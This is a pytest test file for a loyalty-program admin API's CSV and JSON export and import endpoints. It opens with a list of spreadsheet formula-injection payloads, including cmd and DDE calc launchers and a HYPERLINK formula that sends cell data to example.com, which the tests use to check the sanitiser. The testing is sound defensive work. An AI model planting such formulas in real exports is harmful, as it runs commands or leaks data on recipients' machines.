"""Files in and out of the admin API."""

import csv
import io
import json

import pytest

from loyalty.api.files import harmless
from loyalty.models import Card, CardImport, Customer
from loyalty.services import earning, exporting
from tests.factories import NOON, days, make_card, make_cards, make_merchant, make_store
from tests.loyalty.api.offices import Office

pytestmark = pytest.mark.django_db
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '=DDE("cmd";"/C calc";"!A0")',
]


def content(answer) -> str:
    assert answer.status_code == 200, answer.content
    return b"".join(answer.streaming_content).decode()


def table(answer) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content(answer))))


def send(office, merchant, body: bytes | str, content_type: str = "text/csv", key: str = "", **query):
    headers = {**office.headers, **({"Idempotency-Key": key} if key else {})}
    path = f"{office.base}merchants/{merchant.pk}/imports"
    return office.client.post(path, body, content_type=content_type, headers=headers, query_params=query)


@pytest.fixture
def merchant(db):
    return make_merchant()


@pytest.fixture
def office(merchant):
    return Office(merchant, "manager")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_made_harmless(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Ana", "", "12.99", "-12.99", "+352621123456", "-5", "a=b", "2026-03-31"])
def test_what_is_no_formula_stays(text):
    assert harmless(text) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_in_a_name_is_harmless_in_the_file(office, merchant, text):
    make_card(merchant, first_name=text.strip())
    [row] = table(office.get(f"merchants/{merchant.pk}/exports/cards"))
    assert row["first_name"] == f"'{text.strip()}"
    [as_json] = json.loads(content(office.get(f"merchants/{merchant.pk}/exports/cards", form="json")))
    assert as_json["first_name"] == text.strip()


def test_transactions_are_exported_with_amounts_as_decimals(office, merchant):
    store, card = make_store(merchant), make_card(merchant)
    earning.earn(store=store, card_id=card.pk, amount_minor=1299, at=NOON)

    rows = table(office.get(f"merchants/{merchant.pk}/exports/transactions", first="2026-03-02", last="2026-03-02"))
    assert [(row["type"], row["amount"], row["points_delta"]) for row in rows] == [
        ("CARD_CREATED", "", "0"),
        ("POINTS_EARNED", "12.99", "12"),
    ]
    assert (
        table(office.get(f"merchants/{merchant.pk}/exports/transactions", first="2026-03-03", last="2026-03-03")) == []
    )


def test_balances_are_those_of_the_end_of_a_day(office, merchant):
    store, card = make_store(merchant), make_card(merchant, points=10)
    earning.earn(store=store, card_id=card.pk, amount_minor=500, at=NOON + days(1))

    for day, points in (("2026-03-01", None), ("2026-03-02", "10"), ("2026-03-03", "15")):
        rows = table(office.get(f"merchants/{merchant.pk}/exports/balances", as_of=day))
        assert [row["points"] for row in rows] == ([points] if points else [])
    future = office.get(f"merchants/{merchant.pk}/exports/balances", as_of="2199-01-01")
    assert (future.status_code, future.json()["code"]) == (400, "invalid_input")


def test_many_rows_are_read_in_chunks(office, merchant, monkeypatch, django_assert_num_queries):
    make_cards(merchant, 25, points=10)
    monkeypatch.setattr(exporting, "CHUNK", 10)
    rows = exporting.cards(merchant=merchant)

    with django_assert_num_queries(1):
        first = next(rows)
    assert first["points"] == 10
    with django_assert_num_queries(3):
        assert len(list(rows)) == 24
    assert len(table(office.get(f"merchants/{merchant.pk}/exports/balances"))) == 25


def test_nothing_to_export_is_an_empty_file(office, merchant):
    assert content(office.get(f"merchants/{merchant.pk}/exports/cards", form="json")) == "[]\n"
    assert content(office.get(f"merchants/{merchant.pk}/exports/cards")).count("\n") == 1


def test_what_is_exported_can_be_imported_by_another_merchant(office, merchant):
    make_card(merchant, points=12, external_id="K1", email="ana@example.com", phone="+352621123456", first_name="Ana")
    make_card(merchant, points=0, email="", first_name="Bo")
    rows = table(office.get(f"merchants/{merchant.pk}/exports/cards"))
    known = ["external_id", "first_name", "last_name", "email", "phone", "birth_date", "locale", "points", "stamps"]
    body = [{name: row[name] for name in [*known, "last_activity_on"]} for row in rows]

    other = make_merchant()
    answer = send(Office(other, "manager"), other, json.dumps(body), "application/json")

    assert answer.status_code == 200, answer.content
    assert (answer.json()["outcome"], answer.json()["imported"]) == ("imported", 2)
    again = table(Office(other, "manager").get(f"merchants/{other.pk}/exports/cards"))
    assert [{name: row[name] for name in known} for row in again] == [
        {name: row[name] for name in known} for row in rows
    ]


def test_a_file_is_imported_once_and_a_dry_run_changes_nothing(office, merchant):
    body = "external_id,points,email\nK1,10,ana@example.com\nK2,20,\n"

    checked = send(office, merchant, body, dry_run="true")
    assert (checked.json()["outcome"], checked.json()["imported"]) == ("checked", 2)
    assert not Card.objects.exists()
    assert not CardImport.objects.exists()

    done = send(office, merchant, body)
    assert (done.json()["outcome"], done.json()["imported"]) == ("imported", 2)
    again = send(office, merchant, body)
    assert again.json()["outcome"] == "already_imported"
    assert Card.objects.count() == 2
    [listed] = office.get(f"merchants/{merchant.pk}/imports").json()["results"]
    assert (listed["imported"], listed["actor"]) == (2, office.user.username)


def test_a_repeat_with_a_key_gets_the_same_answer_and_another_file_is_refused(office, merchant):
    first = send(office, merchant, "external_id,points\nK1,10\n", key="import-1")
    again = send(office, merchant, "external_id,points\nK1,10\n", key="import-1")
    other = send(office, merchant, "external_id,points\nK2,10\n", key="import-1")

    assert again.content == first.content
    assert again.headers["Idempotency-Replayed"] == "true"
    assert (other.status_code, other.json()["code"]) == (422, "idempotency_key_reused")
    assert Customer.objects.get().external_id == "K1"


def test_problems_are_named_by_line_and_column(office, merchant):
    body = "external_id,points,email\nK1,ten,nobody\nK2,20,\n"

    refused = send(office, merchant, body)
    assert (refused.status_code, refused.json()["code"]) == (422, "import_refused")
    problems = refused.json()["details"]["problems"]
    assert {(problem["line"], problem["column"]) for problem in problems} == {(2, "points"), (2, "email")}
    assert not Card.objects.exists()

    done = send(office, merchant, body, skip_bad="true")
    assert (done.json()["imported"], done.json()["skipped"]) == (1, 1)


@pytest.mark.parametrize(
    ("body", "content_type", "status", "code"),
    [
        (b"", "text/csv", 400, "invalid_request"),
        (b"\xff\xfe\x00", "text/csv", 422, "import_refused"),
        (b"external_id,surprise,points\nK1,1,1\n", "text/csv", 422, "import_refused"),
        (b"external_id,points\nK\x001,1\n", "text/csv", 422, "import_refused"),
        (b"{}", "application/json", 400, "invalid_request"),
        (b"[1]", "application/json", 400, "invalid_request"),
        (b'[{"external_id": ["K1"], "points": 1}]', "application/json", 400, "invalid_request"),
        (b"[", "application/json", 400, "malformed_json"),
        (rb'[{"external_id": "\ud800", "points": 1}]', "application/json", 400, "invalid_request"),
        (rb'[{"external_id": "K1", "\ud800": 1}]', "application/json", 400, "invalid_request"),
        (b"[]", "application/json", 422, "import_refused"),
        (b"x", "text/plain", 415, "unsupported_media_type"),
        (b"external_id,points\n" + b"x" * 10_000_001, "text/csv", 413, "body_too_large"),
        (b'["' + b"x" * 10_000_001, "application/json", 413, "body_too_large"),
    ],
)
def test_a_file_that_is_none_is_refused(office, merchant, body, content_type, status, code):
    answer = send(office, merchant, body, content_type)
    assert (answer.status_code, answer.json()["code"]) == (status, code), answer.content
    assert not Card.objects.exists()


def test_support_exports_no_personal_data_and_imports_nothing(merchant):
    support = Office(merchant, "support")
    assert support.get(f"merchants/{merchant.pk}/exports/cards").status_code == 403
    assert send(support, merchant, "external_id,points\nK1,10\n").status_code == 403
    assert support.get(f"merchants/{merchant.pk}/exports/balances").status_code == 200
